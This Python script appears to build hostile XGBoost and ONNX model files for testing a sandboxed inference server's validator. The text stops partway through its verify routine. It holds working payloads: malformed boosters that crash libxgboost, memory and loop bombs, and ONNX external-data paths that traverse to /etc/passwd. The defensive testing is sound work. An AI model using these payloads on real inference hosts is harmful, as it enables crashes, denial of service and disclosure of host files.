#!/usr/bin/env python3
"""Writes hostile model files: bytes a guest could hand the host via wasi-nn `load`.

Usage: make_hostile.py OUT_DIR [--verify]

Writes OUT_DIR/*.bin (a .bin name, so that a model-directory scan never
preloads one) and OUT_DIR/hostile.json: one entry per file, {"file", "kind"
("xgboost" | "onnx"), "input": {"name", "shape"} (FP32), "output" (ONNX),
"expect", "note"}. expect: "crash" (libxgboost dies: SIGSEGV/SIGABRT),
"leak" (ONNX Runtime returns a host file's bytes), "hang" (runs far past any
deadline), "huge" (a tiny file that costs GiBs of memory), "refuse" (the
native library happens to survive it or refuses it itself, but an index or
count is out of range and a validator must refuse it). Deterministic (fixed
seeds, one thread), a few seconds; only what deps/requirements.lock installs.

--verify then runs every file in a child process of its own, cwd "/", and
prints what happened (about 1.5 minutes; the loop is killed after 12 s and
the huge models use ~2.7 GiB). It is not part of a normal run.

Observed with xgboost-cpu 3.2.0, onnxruntime 1.32.0, onnx 1.23.2 (CPython
3.11, x86-64). XGBoost: XGBoosterLoadModelFromBuffer, nthread 1, then
XGBoosterPredictFromDense on zeros (2, num_feature) with sandscore's config
("capi"), and separately Booster.predict(DMatrix) ("dmatrix"). The unmodified
boosters (multi:softprob gbtree, categorical, multi-target, dart) predict
fine both ways; gblinear is refused by PredictFromDense ("Inplace predict is
not supported by the current booster") and only predicts via DMatrix.

XGBoost file (expect): capi | dmatrix
  xgb-child-out-of-range (crash): SIGSEGV in predict | same
  xgb-child-negative (crash): SIGSEGV in predict | same
  xgb-split-feature-out-of-range (crash): SIGSEGV in predict | same
  xgb-tree-info-longer (refuse): load error, "Check failed: tree_info_json.size() ==
      param.num_trees" | same
  xgb-tree-info-class-out-of-range (crash): SIGSEGV in predict | same
  xgb-child-cycle (crash): SIGSEGV in predict, a stack overflow in the recursive
      WalkTreeMixIn::MaxDepth (so not a hang) | same
  xgb-parent-out-of-range (crash): SIGSEGV in load | same
  xgb-orphan-node-bad-parent (crash): SIGSEGV in load | same. An extra leaf no split
      points at, parent 10^9: load reads nodes[parent] for every node >= 1, reachable
      or not
  xgb-parent-negative (crash): SIGSEGV in load | same
  xgb-duplicate-tree-id (crash): SIGSEGV in predict (two trees with "id": 0 leave tree
      slot 1 null) | same
  xgb-empty-iteration-indptr (refuse): load ok (it reads back() of the empty vector),
      predict error "Check failed" | same
  xgb-iteration-indptr-out-of-range (crash): SIGSEGV in predict | same (indptr[0] is
      -10^8; load checks only the last entry)
  xgb-arrays-shorter (refuse): load error "Check failed: ... == n_nodes" | same
  xgb-split-type-short (refuse): load error "Check failed" | same
  xgb-cat-segment-out-of-range (crash): SIGSEGV in load | same
  xgb-cat-size-out-of-range (crash): SIGSEGV in load, or load error "Invalid cast"
      (it reads past `categories`; varies run to run)
  xgb-cat-negative-category (crash): SIGSEGV in load | same (a bit set at a negative
      index)
  xgb-cat-category-int-max (refuse): load error std::bad_alloc (max_cat + 1 overflows)
  xgb-cat-huge-category (huge): load ok, predict ok, max RSS 2.6 GiB from an 8 KiB file
      (category 2^31-2: a 256 MiB bit field in each of 8 trees) | same
  xgb-cat-node-mismatch (crash): SIGABRT in predict | same
  xgb-multi-target-short-weights (refuse): predict ok but wrong, [0.9087, 0.0359] where
      the unmodified tree gives [0.9087, 0.1012] (an out-of-bounds read) | same
  xgb-multi-target-leaf-out-of-range (crash): SIGABRT in predict | same
  xgb-multi-target-no-leaf-weights (crash): SIGSEGV in load | same
  xgb-multi-target-child-out-of-range (crash): SIGSEGV in predict | same
  xgb-gblinear-empty-weights (refuse): predict error "not supported" | ok, 1/3 each
  xgb-gblinear-short-weights (refuse): predict error "not supported" | ok, garbage
  xgb-cats-feature-segments (refuse): ok | ok (no effect seen; the index is unchecked)
  xgb-num-feature-smaller (refuse): ok, but it reads past the (2, 1) input: row 2's
      output differed between runs | ok
  xgb-deep-chain (crash): SIGSEGV in predict | same. A valid tree, a chain 400000 splits
      deep (31 MB): MaxDepth's recursion overflows an 8 MiB stack (a chain 150000 deep
      overflowed a 2 MiB thread's, 60000 did not)
  xgb-child-out-of-range-ubj (crash): SIGSEGV in predict | same (UBJSON)

ONNX file (input FP32 shape; expect): InferenceSession(bytes) from cwd /
  onnx-external-relative ([16]; leak): LEAK 'root:x:0:0:root:' (an initializer's
      external data at "etc/passwd")
  onnx-external-dotdot ([16]; leak): LEAK ("../../../../../../../../etc/passwd")
  onnx-external-subgraph ([16]; leak): LEAK (If then/else branch initializers)
  onnx-external-attribute ([16]; leak): LEAK (Constant `value`)
  onnx-external-sparse ([16]; leak): LEAK (sparse_initializer values)
  onnx-external-sparse-attribute ([16]; leak): LEAK (Constant `sparse_value` values)
  onnx-external-function ([16]; leak): LEAK (a Constant in a model-local FunctionProto)
  onnx-external-constantofshape ([16]; leak): LEAK of one byte, 16 times, 'rrrr...'
      (ConstantOfShape `value`; `offset` picks the byte)
  onnx-loop-forever ([1]; hang): still running when killed at 12 s (Loop, M = 2^63-1)
  onnx-huge-output ([1]; huge): 536870912 output bytes (FP32 [134217728]) in 0.2 s, max
      RSS 1.2 GiB, from a 202-byte file

Every ONNX file has one input "input" and one output "output"; the leaks
return FP32 [16] whose values are the file's first 16 bytes. IR version 8,
default-domain opset 17 (the pinned onnx knows up to IR 14 / opset 28).
ONNX Runtime resolves a from-memory model's external data against the
working directory and refuses only absolute paths and paths that resolve
outside the working directory: with cwd /, every relative path (`..` chains
included, and symlinks such as proc/self/root/...) reaches any file; from
another cwd the same files fail ("escapes working directory"). ORT refuses
by itself the in-memory marker location "*/_ORT_MEM_ADDR_/*" (in
initializers, Constant attributes, sparse tensors, subgraphs and functions),
and files that cannot be read in full (/proc files report size 0).
onnx.checker refuses the `..` variants ("should be file inside ''") but
ORT does not run it on the main graph; for If branches it does, which is why
the subgraph file uses the plain relative path.
"""
import copy
import json
import os
import signal
import subprocess
import sys
import time

import numpy as np
import xgboost as xgb
from onnx import TensorProto, helper

OPSET = 17
IR_VERSION = 8

# ---------------------------------------------------------------- XGBoost


def _xgb_base_models():
    """Small real boosters, trained deterministically, as parsed JSON."""
    rng = np.random.RandomState(0)
    x = rng.rand(120, 4).astype(np.float32)
    y = np.argmax(x[:, :3] + 0.3 * x[:, 3:4], axis=1)
    params = {"objective": "multi:softprob", "num_class": 3, "max_depth": 2, "seed": 0,
              "nthread": 1, "tree_method": "hist"}
    multi = xgb.train(params, xgb.DMatrix(x, label=y), num_boost_round=2)

    xb = x.copy()
    xb[:, 0] = rng.randint(0, 6, size=len(xb))
    yb = np.isin(xb[:, 0], [1, 3, 4]).astype(int)
    dcat = xgb.DMatrix(xb, label=yb, feature_types=["c", "q", "q", "q"], enable_categorical=True)
    cat = xgb.train({"objective": "binary:logistic", "max_depth": 2, "seed": 0, "nthread": 1,
                     "tree_method": "hist", "max_cat_to_onehot": 1}, dcat, num_boost_round=1)

    ym = np.stack([x[:, 0] + x[:, 1], x[:, 2] - x[:, 3]], axis=1)
    mt = xgb.train({"tree_method": "hist", "multi_strategy": "multi_output_tree", "max_depth": 2,
                    "seed": 0, "nthread": 1}, xgb.DMatrix(x, label=ym), num_boost_round=1)

    lin = xgb.train({"booster": "gblinear", "objective": "multi:softprob", "num_class": 3,
                     "nthread": 1, "seed": 0}, xgb.DMatrix(x, label=y), num_boost_round=2)

    dart = xgb.train({"booster": "dart", "objective": "binary:logistic", "max_depth": 2,
                      "seed": 0, "nthread": 1, "tree_method": "hist"},
                     xgb.DMatrix(x, label=(y == 0)), num_boost_round=2)

    def parsed(b):
        return json.loads(bytes(b.save_raw("json")))

    return {"multi": parsed(multi), "cat": parsed(cat), "mt": parsed(mt), "linear": parsed(lin),
            "dart": parsed(dart)}


def _model(j):
    return j["learner"]["gradient_booster"]["model"]


def _xgb_variants(base):
    """(name, expect, json) for each hostile XGBoost booster."""
    out = []

    def variant(name, expect, src, edit):
        j = copy.deepcopy(base[src])
        edit(j)
        out.append((name, expect, j))

    def tree(j, i=0):
        return _model(j)["trees"][i]

    def set_(arr, i, v):
        arr[i] = v

    variant("xgb-child-out-of-range", "crash", "multi",
            lambda j: set_(tree(j)["left_children"], 0, 1000000))
    variant("xgb-child-negative", "crash", "multi",
            lambda j: set_(tree(j)["right_children"], 0, -1000000))
    variant("xgb-split-feature-out-of-range", "crash", "multi",
            lambda j: set_(tree(j)["split_indices"], 0, 100000000))

    def longer(j):
        _model(j)["tree_info"].append(0)
    variant("xgb-tree-info-longer", "refuse", "multi", longer)

    def class_oor(j):
        _model(j)["tree_info"][-1] = 100000000
    variant("xgb-tree-info-class-out-of-range", "crash", "multi", class_oor)

    def cycle(j):
        t = tree(j)
        t["left_children"][0] = 0
        t["right_children"][0] = 0
    variant("xgb-child-cycle", "crash", "multi", cycle)

    variant("xgb-parent-out-of-range", "crash", "multi",
            lambda j: set_(tree(j)["parents"], 1, 1000000000))

    def orphan(j):
        # One more node, a leaf no split points at, whose parent is far away:
        # libxgboost reads nodes[parent] for every node >= 1 while loading.
        t = tree(j)
        for k, v in (("left_children", -1), ("right_children", -1), ("parents", 1000000000),
                     ("split_indices", 0), ("split_conditions", 0.5), ("default_left", 0),
                     ("split_type", 0), ("loss_changes", 0.0), ("sum_hessian", 1.0),
                     ("base_weights", 0.5)):
            t[k].append(v)
        t["tree_param"]["num_nodes"] = str(len(t["left_children"]))
    variant("xgb-orphan-node-bad-parent", "crash", "multi", orphan)

    variant("xgb-parent-negative", "crash", "multi",
            lambda j: set_(tree(j)["parents"], 1, -1000000000))

    def dup_id(j):
        _model(j)["trees"][1]["id"] = 0
    variant("xgb-duplicate-tree-id", "crash", "multi", dup_id)

    def empty_indptr(j):
        m = _model(j)
        m["trees"], m["tree_info"], m["iteration_indptr"] = [], [], []
        m["gbtree_model_param"]["num_trees"] = "0"
    variant("xgb-empty-iteration-indptr", "refuse", "multi", empty_indptr)

    def indptr_neg(j):
        _model(j)["iteration_indptr"][0] = -100000000
    variant("xgb-iteration-indptr-out-of-range", "crash", "multi", indptr_neg)

    def arrays_short(j):
        t = tree(j)
        for k in ("left_children", "right_children", "parents", "split_indices",
                  "split_conditions", "default_left", "loss_changes", "sum_hessian",
                  "base_weights"):
            t[k] = t[k][:1]
    variant("xgb-arrays-shorter", "refuse", "multi", arrays_short)

    def split_type_short(j):
        t = tree(j)
        t["split_type"] = t["split_type"][:1]
    variant("xgb-split-type-short", "refuse", "multi", split_type_short)

    def cat_seg(j):
        tree(j)["categories_segments"][0] = 100000000
    variant("xgb-cat-segment-out-of-range", "crash", "cat", cat_seg)

    def cat_size(j):
        tree(j)["categories_sizes"][0] = 100000000
    variant("xgb-cat-size-out-of-range", "crash", "cat", cat_size)

    def cat_neg(j):
        tree(j)["categories"][0] = -2000000000
    variant("xgb-cat-negative-category", "crash", "cat", cat_neg)

    def cat_max(j):
        tree(j)["categories"][-1] = 2147483647
    variant("xgb-cat-category-int-max", "refuse", "cat", cat_max)

    def cat_huge(j):
        m = _model(j)
        t = m["trees"][0]
        t["categories"] = [2147483646]
        t["categories_sizes"] = [1]
        m["trees"] = []
        for i in range(CAT_HUGE_TREES):
            t = copy.deepcopy(t)
            t["id"] = i
            m["trees"].append(t)
        m["tree_info"] = [0] * CAT_HUGE_TREES
        m["iteration_indptr"] = list(range(CAT_HUGE_TREES + 1))
        m["gbtree_model_param"]["num_trees"] = str(CAT_HUGE_TREES)
    variant("xgb-cat-huge-category", "huge", "cat", cat_huge)

    def cat_node(j):
        tree(j)["categories_nodes"][0] = 2
    variant("xgb-cat-node-mismatch", "crash", "cat", cat_node)

    def mt_short(j):
        t = tree(j)
        t["leaf_weights"] = t["leaf_weights"][:1]
        t["base_weights"] = t["base_weights"][:1]
    variant("xgb-multi-target-short-weights", "refuse", "mt", mt_short)

    def mt_leaf(j):
        t = tree(j)
        for i, left in enumerate(t["left_children"]):
            if left == -1:
                t["right_children"][i] = 100000000
    variant("xgb-multi-target-leaf-out-of-range", "crash", "mt", mt_leaf)

    def mt_missing(j):
        del tree(j)["leaf_weights"]
    variant("xgb-multi-target-no-leaf-weights", "crash", "mt", mt_missing)

    def mt_child(j):
        tree(j)["left_children"][0] = 100000000
    variant("xgb-multi-target-child-out-of-range", "crash", "mt", mt_child)

    def lin_empty(j):
        _model(j)["weights"] = []
    variant("xgb-gblinear-empty-weights", "refuse", "linear", lin_empty)

    def lin_short(j):
        _model(j)["weights"] = _model(j)["weights"][:1]
    variant("xgb-gblinear-short-weights", "refuse", "linear", lin_short)

    def cats_seg(j):
        _model(j)["cats"]["feature_segments"] = [0, 100000000]
    variant("xgb-cats-feature-segments", "refuse", "multi", cats_seg)

    def num_feature_small(j):
        j["learner"]["learner_model_param"]["num_feature"] = "1"
    variant("xgb-num-feature-smaller", "refuse", "multi", num_feature_small)

    out.append(("xgb-deep-chain", "crash", _deep_chain(base["multi"], DEEP_CHAIN)))
    return out


def _deep_chain(like, depth):
    """One binary:logistic tree that is a chain `depth` splits deep.

    Node 2k splits (feature 0 < -1: every input goes right), its left child
    2k+1 is a leaf, its right child 2k+2 the next split; 2*depth+1 nodes.
    Structurally valid: only a depth limit refuses it.
    """
    n = 2 * depth + 1
    left, right, parents = [-1] * n, [-1] * n, [0] * n
    parents[0] = 2147483647
    for k in range(depth):
        i = 2 * k
        left[i], right[i] = i + 1, i + 2
        parents[i + 1] = parents[i + 2] = i
    zeros = [0.0] * n
    tree = {
        "base_weights": zeros, "categories": [], "categories_nodes": [],
        "categories_segments": [], "categories_sizes": [], "default_left": [0] * n, "id": 0,
        "left_children": left, "loss_changes": zeros, "parents": parents,
        "right_children": right, "split_conditions": [-1.0] * n, "split_indices": [0] * n,
        "split_type": [0] * n, "sum_hessian": zeros,
        "tree_param": {"num_deleted": "0", "num_feature": "4", "num_nodes": str(n),
                       "size_leaf_vector": "1"},
    }
    j = copy.deepcopy(like)
    learner = j["learner"]
    learner["learner_model_param"].update(base_score="[5E-1]", num_class="0")
    learner["objective"] = {"name": "binary:logistic",
                            "reg_loss_param": {"scale_pos_weight": "1"}}
    learner["gradient_booster"]["model"].update(
        gbtree_model_param={"num_parallel_tree": "1", "num_trees": "1"},
        iteration_indptr=[0, 1], tree_info=[0], trees=[tree])
    return j


def _ubj_child_out_of_range(j):
    """The multi-class booster as UBJSON (what save_model("x.ubj") writes), with the
    first tree's left_children[0] patched to 1000000 in place.

    UBJSON typed arrays are `[` `$` type `#` `L` count(int64) then big-endian
    values; left_children is int32 ('l').
    """
    bst = xgb.Booster()
    bst.load_model(bytearray(json.dumps(j).encode()))
    raw = bytearray(bst.save_raw("ubj"))
    key = b"\x0dleft_children[$l#L"
    at = raw.index(key) + len(key) + 8
    raw[at:at + 4] = (1000000).to_bytes(4, "big", signed=True)
    return bytes(raw)


# Measured: 350000 splits overflow an 8 MiB stack, 250000 do not; 150000 overflow a
# 2 MiB thread stack, 60000 do not.
DEEP_CHAIN = 400000
CAT_HUGE_TREES = 8  # 256 MiB of category bit field per tree


# ---------------------------------------------------------------- ONNX

SECRET = "etc/passwd"
SECRET_DOTDOT = "../../../../../../../../etc/passwd"
LEAK_LEN = 16


def _external(name, location, length=LEAK_LEN, offset=0):
    """A UINT8 [length] TensorProto whose bytes are to be read from `location`."""
    t = TensorProto()
    t.name = name
    t.data_type = TensorProto.UINT8
    t.dims.extend([length])
    t.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", str(offset)), ("length", str(length))):
        entry = t.external_data.add()
        entry.key, entry.value = key, value
    return t


def _leak_model(nodes, initializers=(), sparse=(), functions=(), domains=()):
    """input FP32 [16] + Cast(secret -> FP32) = output FP32 [16]."""
    nodes = list(nodes) + [
        helper.make_node("Cast", ["secret"], ["secret_f"], to=TensorProto.FLOAT),
        helper.make_node("Add", ["input", "secret_f"], ["output"]),
    ]
    graph = helper.make_graph(
        nodes, "hostile",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, [LEAK_LEN])],
        [helper.make_tensor_value_info("output", TensorProto.FLOAT, [LEAK_LEN])],
        list(initializers), sparse_initializer=list(sparse))
    opsets = [helper.make_opsetid("", OPSET)] + [helper.make_opsetid(d, 1) for d in domains]
    return helper.make_model(graph, opset_imports=opsets, ir_version=IR_VERSION,
                             functions=list(functions), producer_name="make_hostile")


def _onnx_variants():
    """(name, expect, input shape, ModelProto)."""
    out = []
    out.append(("onnx-external-relative", "leak", [LEAK_LEN],
                _leak_model([], initializers=[_external("secret", SECRET)])))
    out.append(("onnx-external-dotdot", "leak", [LEAK_LEN],
                _leak_model([], initializers=[_external("secret", SECRET_DOTDOT)])))

    def branch(tag):
        return helper.make_graph(
            [helper.make_node("Cast", [tag], [tag + "_f"], to=TensorProto.FLOAT)], tag, [],
            [helper.make_tensor_value_info(tag + "_f", TensorProto.FLOAT, [LEAK_LEN])],
            [_external(tag, SECRET)])
    cond = helper.make_tensor("cond", TensorProto.BOOL, [], [True])
    out.append(("onnx-external-subgraph", "leak", [LEAK_LEN], _leak_model([
        helper.make_node("Constant", [], ["cond"], value=cond),
        helper.make_node("If", ["cond"], ["secret_f8"], then_branch=branch("then_secret"),
                         else_branch=branch("else_secret")),
        helper.make_node("Cast", ["secret_f8"], ["secret"], to=TensorProto.UINT8),
    ])))
    out.append(("onnx-external-attribute", "leak", [LEAK_LEN], _leak_model([
        helper.make_node("Constant", [], ["secret"], value=_external("value", SECRET))])))
    indices = helper.make_tensor("secret_indices", TensorProto.INT64, [LEAK_LEN],
                                 list(range(LEAK_LEN)))
    out.append(("onnx-external-sparse", "leak", [LEAK_LEN], _leak_model(
        [], sparse=[helper.make_sparse_tensor(_external("secret", SECRET), indices, [LEAK_LEN])])))
    out.append(("onnx-external-sparse-attribute", "leak", [LEAK_LEN], _leak_model([
        helper.make_node("Constant", [], ["secret"], sparse_value=helper.make_sparse_tensor(
            _external("value", SECRET), indices, [LEAK_LEN]))])))
    fn = helper.make_function(
        "hostile.local", "Leak", [], ["y"],
        [helper.make_node("Constant", [], ["y"], value=_external("value", SECRET))],
        [helper.make_opsetid("", OPSET)])
    out.append(("onnx-external-function", "leak", [LEAK_LEN], _leak_model(
        [helper.make_node("Leak", [], ["secret"], domain="hostile.local")],
        functions=[fn], domains=["hostile.local"])))
    shape = helper.make_tensor("shape", TensorProto.INT64, [1], [LEAK_LEN])
    out.append(("onnx-external-constantofshape", "leak", [LEAK_LEN], _leak_model([
        helper.make_node("Constant", [], ["shape"], value=shape),
        helper.make_node("ConstantOfShape", ["shape"], ["secret"],
                         value=_external("value", SECRET, length=1))])))

    # Loop with a near-INT64_MAX trip count and a trivial body.
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]),
         helper.make_node("Identity", ["v_in"], ["v_out"])],
        "body",
        [helper.make_tensor_value_info("iter", TensorProto.INT64, []),
         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1])])
    loop = helper.make_graph(
        [helper.make_node("Loop", ["trips", "keep_going", "input"], ["output"], body=body)],
        "loop_forever",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("output", TensorProto.FLOAT, [1])],
        [helper.make_tensor("trips", TensorProto.INT64, [], [2**63 - 1]),
         helper.make_tensor("keep_going", TensorProto.BOOL, [], [True])])
    out.append(("onnx-loop-forever", "hang", [1], helper.make_model(
        loop, opset_imports=[helper.make_opsetid("", OPSET)], ir_version=IR_VERSION,
        producer_name="make_hostile")))

    huge = helper.make_graph(
        [helper.make_node("ConstantOfShape", ["huge_shape"], ["huge"],
                          value=helper.make_tensor("one", TensorProto.FLOAT, [1], [1.0])),
         helper.make_node("Add", ["huge", "input"], ["output"])],
        "huge_output",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("output", TensorProto.FLOAT, [HUGE_ELEMS])],
        [helper.make_tensor("huge_shape", TensorProto.INT64, [1], [HUGE_ELEMS])])
    out.append(("onnx-huge-output", "huge", [1], helper.make_model(
        huge, opset_imports=[helper.make_opsetid("", OPSET)], ir_version=IR_VERSION,
        producer_name="make_hostile")))
    return out


HUGE_ELEMS = 134217728  # FP32: 512 MiB


# ---------------------------------------------------------------- writing

NOTES = {  # what each file is, for messages
    "xgb-child-out-of-range": "tree 0 left_children[0] = 1000000 (7 nodes)",
    "xgb-child-negative": "tree 0 right_children[0] = -1000000",
    "xgb-split-feature-out-of-range": "tree 0 split_indices[0] = 100000000 (num_feature 4)",
    "xgb-tree-info-longer": "tree_info has 7 entries for 6 trees (libxgboost refuses it itself)",
    "xgb-tree-info-class-out-of-range": "tree_info[5] = 100000000 (num_class 3)",
    "xgb-child-cycle": "tree 0 root's children are the root itself (stack overflow in MaxDepth)",
    "xgb-parent-out-of-range": "tree 0 parents[1] = 1000000000 (load reads nodes[parent])",
    "xgb-orphan-node-bad-parent":
        "tree 0 gets an 8th node, a leaf nothing points at, parent 1000000000",
    "xgb-parent-negative": "tree 0 parents[1] = -1000000000",
    "xgb-duplicate-tree-id": "trees[1].id = 0: tree slot 1 stays null",
    "xgb-empty-iteration-indptr":
        "no trees, iteration_indptr [] (load reads back() of an empty vector)",
    "xgb-iteration-indptr-out-of-range":
        "iteration_indptr[0] = -100000000 (only the last entry is checked)",
    "xgb-arrays-shorter":
        "tree 0 per-node arrays cut to 1 entry, num_nodes 7 (refused by libxgboost)",
    "xgb-split-type-short": "tree 0 split_type cut to 1 entry (refused by libxgboost)",
    "xgb-cat-segment-out-of-range": "categorical tree: categories_segments[0] = 100000000",
    "xgb-cat-size-out-of-range": "categorical tree: categories_sizes[0] = 100000000",
    "xgb-cat-negative-category":
        "categorical tree: categories[0] = -2000000000 (bit set at a negative index)",
    "xgb-cat-category-int-max":
        "categorical tree: category 2147483647 (max_cat + 1 overflows; bad_alloc)",
    "xgb-cat-huge-category":
        "8 categorical trees with category 2147483646: 256 MiB of bit field each",
    "xgb-cat-node-mismatch":
        "categorical tree: categories_nodes [2], a leaf, while split_type marks node 0",
    "xgb-multi-target-short-weights":
        "vector-leaf tree: base_weights and leaf_weights cut to 1 entry (silent out-of-"
        "bounds read)",
    "xgb-multi-target-leaf-out-of-range":
        "vector-leaf tree: leaves' right_children (leaf index) = 100000000",
    "xgb-multi-target-no-leaf-weights":
        "vector-leaf tree without leaf_weights (end() dereferenced in load)",
    "xgb-multi-target-child-out-of-range": "vector-leaf tree: left_children[0] = 100000000",
    "xgb-gblinear-empty-weights":
        "gblinear with weights [] (needs (num_feature+1)*num_class = 15)",
    "xgb-gblinear-short-weights": "gblinear with 1 weight of 15",
    "xgb-cats-feature-segments": "cats.feature_segments [0, 100000000] with no encodings",
    "xgb-num-feature-smaller":
        "learner num_feature 1 while splits use features up to 3 (reads past the input "
        "row)",
    "xgb-deep-chain": "one valid tree, a chain 400000 splits deep (stack overflow in MaxDepth)",
    "xgb-child-out-of-range-ubj": "UBJSON booster, tree 0 left_children[0] = 1000000",
    "onnx-external-relative": "initializer UINT8[16], external data location etc/passwd",
    "onnx-external-dotdot":
        "initializer UINT8[16], external data location ../../../../../../../../etc/passwd",
    "onnx-external-subgraph": "external initializers in an If node's then_branch and else_branch",
    "onnx-external-attribute": "external data in a Constant node's value TensorProto",
    "onnx-external-sparse": "external data in a sparse_initializer's values",
    "onnx-external-sparse-attribute": "external data in a Constant node's sparse_value values",
    "onnx-external-function": "external data in a Constant inside a model-local FunctionProto",
    "onnx-external-constantofshape": "external data (1 byte) in ConstantOfShape's value attribute",
    "onnx-loop-forever": "Loop with trip count 2^63-1 and an identity body",
    "onnx-huge-output": "ConstantOfShape [134217728] FP32 + input: a 512 MiB output",
}


def build(out_dir):
    os.makedirs(out_dir, exist_ok=True)
    entries = []
    base = _xgb_base_models()
    for name, expect, j in _xgb_variants(base):
        fname = name + ".bin"
        with open(os.path.join(out_dir, fname), "w") as f:
            json.dump(j, f, separators=(",", ":"))
        n_features = int(j["learner"]["learner_model_param"]["num_feature"])
        entries.append({"file": fname, "kind": "xgboost",
                        "input": {"name": "input", "shape": [2, n_features]},
                        "expect": expect, "note": NOTES[name]})
    fname = "xgb-child-out-of-range-ubj.bin"
    with open(os.path.join(out_dir, fname), "wb") as f:
        f.write(_ubj_child_out_of_range(base["multi"]))
    entries.append({"file": fname, "kind": "xgboost", "input": {"name": "input", "shape": [2, 4]},
                    "expect": "crash", "note": NOTES["xgb-child-out-of-range-ubj"]})
    for name, expect, shape, m in _onnx_variants():
        fname = name + ".bin"
        with open(os.path.join(out_dir, fname), "wb") as f:
            f.write(m.SerializeToString())
        entries.append({"file": fname, "kind": "onnx", "input": {"name": "input", "shape": shape},
                        "output": "output", "expect": expect, "note": NOTES[name]})
    with open(os.path.join(out_dir, "hostile.json"), "w") as f:
        json.dump(entries, f, indent=1)
    return entries


# ---------------------------------------------------------------- --verify


# What sandscore's XGBoost backend passes XGBoosterPredictFromDense.
_PREDICT_CONFIG = (b'{"type": 0, "training": false, "iteration_begin": 0, "iteration_end": 0, '
                   b'"strict_shape": false, "missing": NaN, "cache_id": 0}')


def _predict_like_sandscore(bst, x):
    """XGBoosterPredictFromDense as the server calls it (no Python-side checks)."""
    import ctypes

    lib = xgb.core._LIB
    interface = json.dumps({"data": [x.ctypes.data, True], "shape": list(x.shape),
                            "typestr": "<f4", "version": 3}).encode()
    shape = ctypes.POINTER(ctypes.c_uint64)()
    dims = ctypes.c_uint64()
    out = ctypes.POINTER(ctypes.c_float)()
    rc = lib.XGBoosterPredictFromDense(bst.handle, ctypes.c_char_p(interface),
                                       ctypes.c_char_p(_PREDICT_CONFIG), None,
                                       ctypes.byref(shape), ctypes.byref(dims),
                                       ctypes.byref(out))
    if rc != 0:
        raise xgb.core.XGBoostError(lib.XGBGetLastError().decode())
    n = int(np.prod([shape[i] for i in range(dims.value)]))
    return np.ctypeslib.as_array(out, shape=(n,)).copy()


def _max_rss_mib():
    import resource

    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024


def _child(mode, path):
    """Runs one hostile model in this (sacrificial) process.

    Prints a JSON line after loading and another after running, so the parent
    can tell a death in load from one in predict.
    """
    with open(path, "rb") as f:
        data = f.read()
    report = {}
    if mode in ("xgb-capi", "xgb-dmatrix"):
        bst = xgb.Booster()
        try:
            bst.load_model(bytearray(data))  # XGBoosterLoadModelFromBuffer
            bst.set_param({"nthread": "1"})
            n_features = bst.num_features()
            json.loads(bst.save_config())
        except xgb.core.XGBoostError as e:
            print(json.dumps({"load": "error: " + _first_line(e)}), flush=True)
            return
        report["load"] = "ok"
        print(json.dumps(report), flush=True)
        x = np.zeros((2, n_features), dtype=np.float32)
        try:
            if mode == "xgb-capi":
                p = _predict_like_sandscore(bst, x)
            else:
                p = bst.predict(xgb.DMatrix(x))
            report["predict"] = "ok " + json.dumps(np.asarray(p).round(4).tolist())[:100]
        except xgb.core.XGBoostError as e:
            report["predict"] = "error: " + _first_line(e)
    else:
        import onnxruntime as ort

        try:
            sess = ort.InferenceSession(data, providers=["CPUExecutionProvider"])
        except Exception as e:  # noqa: BLE001 - ORT raises several classes
            print(json.dumps({"load": "error: " + _first_line(e)}), flush=True)
            return
        report["load"] = "ok"
        print(json.dumps(report), flush=True)
        inp = sess.get_inputs()[0]
        t0 = time.monotonic()
        y = sess.run(None, {inp.name: np.zeros(inp.shape, dtype=np.float32)})[0]
        report["seconds"] = round(time.monotonic() - t0, 2)
        report["output_bytes"] = int(y.nbytes)
        report["head"] = bytes(np.asarray(y).reshape(-1)[:LEAK_LEN].astype(np.uint8)).decode(
            "latin-1")
    report["max_rss_mib"] = _max_rss_mib()
    print(json.dumps(report), flush=True)


def _first_line(e):
    text = str(e).strip().splitlines()
    return text[0][-170:] if text else type(e).__name__


def _run_child(mode, path, timeout, cwd):
    """(status, last report line) of one child run."""
    t0 = time.monotonic()
    try:
        p = subprocess.run([sys.executable, os.path.abspath(__file__), "--child", mode, path],
                           capture_output=True, timeout=timeout, cwd=cwd)
        stdout, status = p.stdout, None
    except subprocess.TimeoutExpired as e:
        stdout, status = e.stdout or b"", "HANG (killed after %ds)" % timeout
    lines = stdout.decode("utf-8", "replace").strip().splitlines()
    try:
        rep = json.loads(lines[-1]) if lines else {}
    except ValueError:
        rep = {}
    if status:
        return status, rep
    if p.returncode < 0:
        where = "in predict" if rep.get("load") == "ok" else "in load"
        return "SIGNAL %s %s (%.1fs)" % (signal.Signals(-p.returncode).name, where,
                                        time.monotonic() - t0), rep
    if p.returncode != 0:
        err = p.stderr.decode("utf-8", "replace").strip().splitlines()
        return "exit %d: %s" % (p.returncode, err[-1][-160:] if err else ""), rep
    return "exit 0", rep


def _controls(folder):
    """The unmodified models, to show that they run: entries like build()'s."""
    entries = []
    for name, j in _xgb_base_models().items():
        fname = "control-xgb-%s.bin" % name
        with open(os.path.join(folder, fname), "w") as f:
            json.dump(j, f)
        entries.append({"file": fname, "kind": "xgboost", "expect": "ok"})
    inline = helper.make_tensor("secret", TensorProto.UINT8, [LEAK_LEN], list(b"inline bytes ok!"))
    with open(os.path.join(folder, "control-onnx-inline.bin"), "wb") as f:
        f.write(_leak_model([], initializers=[inline]).SerializeToString())
    entries.append({"file": "control-onnx-inline.bin", "kind": "onnx", "expect": "ok"})
    return entries


def verify(out_dir, entries):
    import tempfile

    with open("/etc/passwd", "rb") as f:
        secret = f.read(LEAK_LEN).decode("latin-1")
    rows = []
    controls = tempfile.mkdtemp(prefix="hostile-controls-")
    todo = [(controls, e) for e in _controls(controls)] + [(out_dir, e) for e in entries]
    for folder, e in todo:
        path = os.path.abspath(os.path.join(folder, e["file"]))
        if e["kind"] == "xgboost":
            cells = []
